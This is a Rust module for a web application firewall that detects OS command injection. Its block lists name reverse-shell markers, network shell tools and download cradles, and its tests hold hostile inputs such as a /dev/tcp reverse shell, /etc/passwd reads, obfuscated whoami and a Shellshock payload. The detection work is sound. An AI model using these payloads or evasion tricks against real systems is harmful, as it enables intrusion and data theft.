//! OS command injection detection.
//!
//! Owns: recognising a shell separator or substitution followed by a command, in a
//! lowercased, decoded value, after folding shell evasions (`${IFS}`, `$IFS$9`, empty quotes
//! `c''at`, backslash-escaped letters `c\at`):
//!
//! | rule | family |
//! | --- | --- |
//! | `waf-cmdi-400` | separator (`;`, `|`, `||`, `&`, `&&`) + command (`; cat /etc/passwd`, `| id`) |
//! | `waf-cmdi-401` | command substitution: `$(…)` and backticks around a command |
//! | `waf-cmdi-402` | `${IFS}` / `$IFS` whitespace evasion, brace expansion `{cat,/etc/passwd}` |
//! | `waf-cmdi-403` | newline (`%0a`) followed by a command |
//! | `waf-cmdi-404` | shell payload markers: `/dev/tcp/`, `bash -i`, `nc -e`, `mkfifo`, `cmd.exe /c` |
//! | `waf-cmdi-405` | Shellshock function definition `() {` |
//!
//! Does not own: the once-only decode (so `%0a` arrives here as a newline).

use crate::find::{ByteSet, Hay};
use crate::Strength;
use std::borrow::Cow;

/// Commands unlikely as ordinary words: any separator before them is enough.
const DISTINCT: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "wget",
    "curl",
    "netcat",
    "ncat",
    "nc",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "powershell",
    "systeminfo",
    "busybox",
    "telnet",
    "tftp",
    "python",
    "python3",
    "perl",
    "php",
    "ruby",
    "chmod",
    "chown",
    "passwd",
    "netstat",
    "hostname",
    "useradd",
    "crontab",
    "xterm",
    "nohup",
    "base64",
    "certutil",
    "bitsadmin",
    "cmd",
    "cmd.exe",
    "id",
    "pwd",
    "ls",
    "lua",
    "socat",
    "getent",
    "sudo",
    "dig",
    "host",
    "nmap",
    "tasklist",
    "wmic",
    "reg",
    "net.exe",
    "sleep",
    "ping",
    "env",
    "printenv",
    "rm",
    "uptime",
    "w",
    "who",
    "last",
    "ps",
    "finger",
    "printf",
    "xxd",
    "openssl",
    "base32",
    "node",
    "nodejs",
    "dash",
    "pwsh",
    "ver",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "certutil.exe",
    "powershell.exe",
    "ipconfig.exe",
    "whoami.exe",
];

/// Commands that are also common words: they need a flag, path, or `$` argument.
const WORDY: &[&str] = &[
    "cat", "type", "echo", "kill", "dir", "net", "more", "less", "head", "tail", "find", "grep", "touch",
    "cp", "mv", "set", "export", "exec", "eval", "awk", "sed", "mail", "date", "whois", "which", "file",
    "time", "expr", "tee", "xargs", "od", "strings", "sort", "uniq", "rev", "tr", "copy", "del", "start",
    "call", "for", "ssh", "scp", "ftp", "tar", "gzip", "java",
];

/// Looks for command injection in a lowercased, decoded value.
#[cfg(test)]
pub(crate) fn detect(s: &str) -> Option<(&'static str, Strength)> {
    detect_in(s, ByteSet::of(s.as_bytes()))
}

/// [`detect`] given `set`, exactly the bytes of `s` (its gates rely on absence).
pub(crate) fn detect_in(s: &str, set: ByteSet) -> Option<(&'static str, Strength)> {
    let raw = s.as_bytes();
    // Every rule needs one of these bytes (a separator, substitution, brace or newline).
    // Every rule needs a separator, substitution, brace, newline, path, flag, `%VAR%` or `^`.
    if !set.has_any(b";|&`$\n\r({/-%^\\") {
        return None;
    }
    let mut best: Option<(&'static str, Strength)> = None;
    let mut note = |id: &'static str, st: Strength| {
        if best.map_or(true, |b| st < b.1) {
            best = Some((id, st));
        }
    };
    let head = raw.trim_ascii_start();
    if head.starts_with(b"() {") || head.starts_with(b"(){") {
        note("waf-cmdi-405", Strength::Strong);
    }
    let hay = Hay::new(raw, set);
    let ifs = hay.contains(b"${ifs}") || hay.contains(b"$ifs");
    if ifs {
        note("waf-cmdi-402", Strength::Strong);
    }
    if let Some(st) = windows_syntax(&hay) {
        note("waf-cmdi-406", st);
    }
    if set.has_any(b"?*[") && set.has(b'/') && glob_path(raw) {
        note("waf-cmdi-407", Strength::Medium);
    }
    if hay.contains(b"$'\\") {
        // ANSI-C quoting `$'\x69\x64'` spells a command in escapes.
        note("waf-cmdi-402", Strength::Medium);
    }
    let f = fold(s, ifs, &set);
    // Folding only removes bytes or turns `${ifs}` into a space.
    let mut fset = set;
    fset.insert(b' ');
    let h = Hay::new(f.as_bytes(), fset);
    let b = h.bytes;
    for marker in [
        &b"/dev/tcp/"[..],
        b"/dev/udp/",
        b"bash -i",
        b"sh -i",
        b"nc -e",
        b"nc -l",
        b"ncat -e",
        b"mkfifo /",
        b"cmd.exe /c",
        b"cmd /c",
        b"powershell -",
        b"/bin/sh",
        b"/bin/bash",
        b"/bin/cat",
        b"/bin/ls",
        b"/usr/bin/id",
        b"/bin/id",
    ] {
        if h.contains(marker) {
            note("waf-cmdi-404", Strength::Medium);
        }
    }
    let multiline = b.len() > 64 && b.iter().filter(|&&c| c == b'\n').count() >= 2;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let (id, sep_len, strong_sep) = match c {
            b';' => ("waf-cmdi-400", 1, false),
            b'|' => (
                "waf-cmdi-400",
                if b.get(i + 1) == Some(&b'|') { 2 } else { 1 },
                true,
            ),
            b'&' => (
                "waf-cmdi-400",
                if b.get(i + 1) == Some(&b'&') { 2 } else { 1 },
                b.get(i + 1) == Some(&b'&'),
            ),
            b'\n' | b'\r' => ("waf-cmdi-403", 1, true),
            b'`' => ("waf-cmdi-401", 1, true),
            b'$' if b.get(i + 1) == Some(&b'(') => ("waf-cmdi-401", 2, true),
            b'{' => ("waf-cmdi-402", 1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        let at = i + sep_len;
        // Markdown code spans (`ls -la` in prose) open after a space; shell injection
        // glues the backtick to the argument it rides on (`x`id``, `=`id``).
        let code_span = c == b'`' && i > 0 && b[i - 1] == b' ';
        i = at;
        // `;dir`, `x;id`: a separator glued to its neighbours, unlike prose (`salt & more`).
        let glued = (i - sep_len == 0 || b[i - sep_len - 1] != b' ') && b.get(at) != Some(&b' ');
        if let Some(st) = command_at(b, at, c, strong_sep, glued) {
            // A command on its own line of a multi-line text is a snippet someone pasted.
            let pasted = c == b'\n' && multiline;
            note(id, if code_span || pasted { Strength::Weak } else { st });
        }
    }
    best
}

/// Strength of a command word starting at `at` (after optional spaces and `/bin/`-style paths).
fn command_at(b: &[u8], mut at: usize, sep: u8, strong_sep: bool, glued: bool) -> Option<Strength> {
    if sep == b'{' && b.get(at) == Some(&b',') {
        // `{,echo,x}`: brace expansion with an empty first word.
        at += 1;
    }
    while at < b.len() && matches!(b[at], b' ' | b'\t') {
        at += 1;
    }
    let mut pathed = false;
    for prefix in [
        &b"/usr/local/bin/"[..],
        b"/usr/bin/",
        b"/bin/",
        b"/usr/sbin/",
        b"/sbin/",
    ] {
        if b[at..].starts_with(prefix) {
            at += prefix.len();
            pathed = true;
            break;
        }
    }
    let start = at;
    while at < b.len() && (b[at].is_ascii_alphanumeric() || b[at] == b'.' || b[at] == b'_') {
        at += 1;
    }
    let word = std::str::from_utf8(&b[start..at]).ok()?;
    if word.is_empty() {
        return None;
    }
    let after = b.get(at).copied();
    let boundary = matches!(
        after,
        None | Some(b' ' | b'\t' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')' | b'\n' | b'\r' | b',')
    );
    if !boundary {
        return None;
    }
    let rest = &b[at..];
    let arg = rest.trim_ascii_start();
    let argy = arg.starts_with(b"/")
        || arg.starts_with(b"-")
        || arg.starts_with(b"$")
        || arg.starts_with(b"~")
        || arg.starts_with(b"c:")
        || arg.starts_with(b"%")
        || arg.starts_with(b"../")
        || arg.first().is_some_and(u8::is_ascii_digit);
    // `{cat,/etc/passwd}` needs a comma right after the command.
    if sep == b'{' {
        return (after == Some(b',') && (DISTINCT.contains(&word) || WORDY.contains(&word)))
            .then_some(Strength::Medium);
    }
    let closing = match sep {
        b'`' => memchr::memchr(b'`', &rest[..rest.len().min(256)]).is_some(),
        b'$' => memchr::memchr(b')', &rest[..rest.len().min(256)]).is_some(),
        _ => true,
    };
    let substitution = matches!(sep, b'`' | b'$');
    // A command standing alone between separators (`;id;`, `|dir`, `&quot;;id&quot;`).
    let alone = matches!(arg.first(), None | Some(b';' | b'|' | b'&' | b'`' | b')'));
    if word == "net"
        && ["user", "localgroup", "share", "view", "group"]
            .iter()
            .any(|w| arg.starts_with(w.as_bytes()))
    {
        return Some(Strength::Medium);
    }
    if DISTINCT.contains(&word) || pathed {
        if pathed || substitution && closing || argy || strong_sep && rest.trim_ascii().is_empty() {
            return Some(Strength::Strong);
        }
        if short_word(word) && !strong_sep && !alone {
            // `; id` style words that double as prose ("; w" "; host name") need more.
            return Some(Strength::Weak);
        }
        return Some(Strength::Medium);
    }
    if WORDY.contains(&word) {
        // `|more;`, `&dir&`: a word between separators; at the end only after `|` or a
        // backtick (`salt & more` is prose).
        let terminated = matches!(arg.first(), Some(b';' | b'|' | b'&' | b'`' | b')'));
        if terminated || arg.is_empty() && (matches!(sep, b'|' | b'`') || glued) {
            return Some(Strength::Medium);
        }
        if argy {
            return Some(if strong_sep {
                Strength::Strong
            } else {
                Strength::Medium
            });
        }
        return Some(Strength::Weak);
    }
    None
}

/// Windows shell markers: environment expansions, interpreters with switches, LOLBins. Each
/// holds a byte of the module's gate (`/ - % . ( \\`); bare command words are `DISTINCT`.
fn windows_syntax(h: &Hay<'_>) -> Option<Strength> {
    const STRONG: &[&[u8]] = &[
        b"%comspec%",
        b"%comspec:~",
        b"%windir%",
        b"%systemroot%",
        b"cmd /c",
        b"cmd /k",
        b"powershell -",
        b"powershell.exe",
        b"pwsh -",
        b"iex(",
        b"iex (",
        b"invoke-expression",
        b"invoke-webrequest",
        b"downloadstring(",
        b"downloadfile(",
        b"-encodedcommand",
        b"start-process",
        b"certutil -urlcache",
        b"certutil.exe -",
        b"bitsadmin /transfer",
        b"regsvr32 /",
        b"whoami /",
        b"for /f",
        b"set /a",
        b"type c:/",
        b"type c:\\",
        b"dir c:/",
        b"dir c:\\",
        b"ping -n ",
        b"%path:~",
        b"%programfiles%",
        b"%userprofile%",
        b"%temp%\\",
    ];
    STRONG.iter().any(|m| h.contains(m)).then_some(Strength::Medium)
}

/// `/???/c?t /???/p??swd`, `/bin/ca[t]`: two or more path segments spelled with globs.
fn glob_path(b: &[u8]) -> bool {
    let mut globbed = 0;
    for seg in b.split(|&c| c == b'/' || c == b' ') {
        let wild = seg
            .iter()
            .filter(|&&c| c == b'?' || c == b'*' || c == b'[')
            .count();
        let ok = seg.iter().any(u8::is_ascii_alphabetic)
            && seg.len() <= 10
            && wild > 0
            && seg
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'?' | b'*' | b'[' | b']'));
        if ok && (wild * 2 >= seg.len() || seg.contains(&b'?')) {
            globbed += 1;
        }
    }
    globbed >= 2 && b.contains(&b'/')
}

fn short_word(w: &str) -> bool {
    matches!(
        w,
        "w" | "who"
            | "last"
            | "host"
            | "id"
            | "ps"
            | "env"
            | "sleep"
            | "ping"
            | "rm"
            | "reg"
            | "dig"
            | "sh"
            | "nc"
    )
}

/// Removes evasion padding: `${IFS}`/`$IFS$9` → space, empty quote pairs, `\` before letters.
/// Borrows when there is nothing to fold (`ifs` false and no quote or backslash in `set`).
fn fold<'a>(s: &'a str, ifs: bool, set: &ByteSet) -> Cow<'a, str> {
    if !ifs && !set.has_any(b"'\"\\^$") {
        return Cow::Borrowed(s);
    }
    let s = if ifs {
        Cow::Owned(
            s.replace("${ifs}", " ")
                .replace("$ifs$9", " ")
                .replace("$ifs", " "),
        )
    } else {
        Cow::Borrowed(s)
    };
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match (b[i], b.get(i + 1)) {
            (b'\'', Some(b'\'')) | (b'"', Some(b'"')) => i += 2,
            // `w'h'o'am'i`: a quote between letters is shell concatenation.
            (b'\'' | b'"', Some(n))
                if n.is_ascii_alphabetic() && out.last().is_some_and(u8::is_ascii_alphabetic) =>
            {
                i += 1
            }
            (b'\\', Some(c)) if c.is_ascii_alphabetic() => i += 1,
            // `w^h^o^a^m^i`: cmd.exe drops a caret before a letter.
            (b'^', Some(c))
                if c.is_ascii_alphanumeric() && out.last().is_some_and(u8::is_ascii_alphanumeric) =>
            {
                i += 1
            }
            // `wh$@oami`, `c$*at`: empty positional parameters.
            (b'$', Some(b'@' | b'*')) if out.last().is_some_and(u8::is_ascii_alphanumeric) => i += 2,
            // `cat$u /etc$u/passwd`: an unset one-letter variable expands to nothing.
            (b'$', Some(v))
                if v.is_ascii_lowercase()
                    && out.last().is_some_and(u8::is_ascii_alphanumeric)
                    && !b.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                i += 2
            }
            (c, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    Cow::Owned(String::from_utf8(out).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(s: &str) -> Option<&'static str> {
        detect(s).filter(|h| h.1 != Strength::Weak).map(|h| h.0)
    }

    #[test]
    fn detects_families() {
        assert_eq!(rule("x; cat /etc/passwd"), Some("waf-cmdi-400"));
        assert_eq!(rule("1 | id"), Some("waf-cmdi-400"));
        assert_eq!(rule("a && whoami"), Some("waf-cmdi-400"));
        assert_eq!(rule("$(whoami)"), Some("waf-cmdi-401"));
        assert_eq!(rule("`id`"), Some("waf-cmdi-401"));
        assert_eq!(rule(";cat${ifs}/etc/passwd"), Some("waf-cmdi-402"));
        assert_eq!(rule("x\nid"), Some("waf-cmdi-403"));
        assert_eq!(
            rule("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            Some("waf-cmdi-400")
        );
        assert_eq!(rule("() { :; }; /bin/bash -c id"), Some("waf-cmdi-405"));
        assert_eq!(rule(";c''at /etc/passwd"), Some("waf-cmdi-400"));
        assert_eq!(rule("& w^h^o^a^m^i"), Some("waf-cmdi-400"));
        assert_eq!(rule("type %windir%\\win.ini"), Some("waf-cmdi-406"));
        assert_eq!(rule(";/???/c?t /???/p??swd"), Some("waf-cmdi-407"));
        assert_eq!(rule("{,echo,x}"), Some("waf-cmdi-402"));
        assert_eq!(rule("$(printf 'di'|rev)"), Some("waf-cmdi-401"));
        assert_eq!(rule(";wh$@oami"), Some("waf-cmdi-400"));
    }

    #[test]
    fn leaves_prose_alone() {
        for ok in [
            "rock & roll",
            "salt & pepper; cat food",
            "tom & jerry",
            "$(document).ready(function(){})",
            "this | that",
            "r&b hits",
            "a; b; c",
            "fish & chips",
            "price: $5 (approx)",
            "tips & tricks; find the best",
        ] {
            assert_eq!(rule(ok), None, "{ok}");
        }
    }
}
